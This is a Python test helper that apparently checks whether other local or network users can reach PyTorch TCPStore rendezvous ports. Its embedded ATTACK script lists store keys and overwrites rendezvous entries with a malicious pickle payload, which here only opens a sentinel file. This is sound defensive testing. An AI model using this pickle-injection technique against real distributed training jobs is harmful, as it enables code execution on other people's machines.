"""Somebody else on the machine or in the network, and what they can reach."""

import json
import os
import socket
import struct
import subprocess
import sys
from pathlib import Path

# Lists the keys of every store it can connect to, and replaces the states of rendezvous.
ATTACK = """
import base64, json, multiprocessing.connection, multiprocessing.popen_fork, os, pickle, sys, time
from torch.distributed import TCPStore

if sys.argv[1] != "0":  # after the imports: an environment in root's home is not for others
    os.setgroups([]), os.setgid(int(sys.argv[1])), os.setuid(int(sys.argv[1]))
del sys.argv[1]

class Payload:
    def __reduce__(self):
        return open, (sys.argv[1], "w")

def look(port, pipe):
    store = TCPStore(sys.argv[2], port, is_master=False)
    keys = [key.lstrip("/") for key in store.list_keys()]
    for key in keys:
        if "torch.rendezvous" in key and "/" not in key:
            store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
    pipe.send(keys)

answers, fork = {}, multiprocessing.get_context("fork")
for port in map(int, sys.argv[3:]):
    answers[port] = fork.Pipe(duplex=False)
    fork.Process(target=look, args=(port, answers[port][1]), daemon=True).start()
end = time.monotonic() + 5  # for all together: many never answer
found = {}
for port, (answer, _) in answers.items():
    found[port] = answer.recv() if answer.poll(max(0, end - time.monotonic())) else None
for process in multiprocessing.active_children():
    process.kill()
print(json.dumps(found))
"""
NOBODY = 65534


def attack(sentinel, host, ports, *, user=0, wrapper=()):
    """What an attacker, as `user`, found behind each port: the keys of a store, or None."""
    done = subprocess.run(
        [*wrapper, sys.executable, "-c", ATTACK, str(user), str(sentinel), host, *map(str, ports)],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], "HOME": "/nonexistent"},
        cwd="/",
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return {int(port): keys for port, keys in json.loads(done.stdout.splitlines()[-1]).items()}


def listening(pid):
    """The (address, port) pairs at which process `pid` listens for TCP."""
    held = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            held.add(os.readlink(entry))
        except OSError:
            continue
    found = set()
    for name, num_bytes in (("tcp", 4), ("tcp6", 16)):
        table = Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]
        for fields in map(str.split, table):
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in held:
                address, port = fields[1].split(":")
                words = struct.unpack(f">{num_bytes // 4}I", bytes.fromhex(address))
                packed = struct.pack(f"<{num_bytes // 4}I", *words)
                family = socket.AF_INET if num_bytes == 4 else socket.AF_INET6
                found.add((socket.inet_ntop(family, packed), int(port, 16)))
    return found
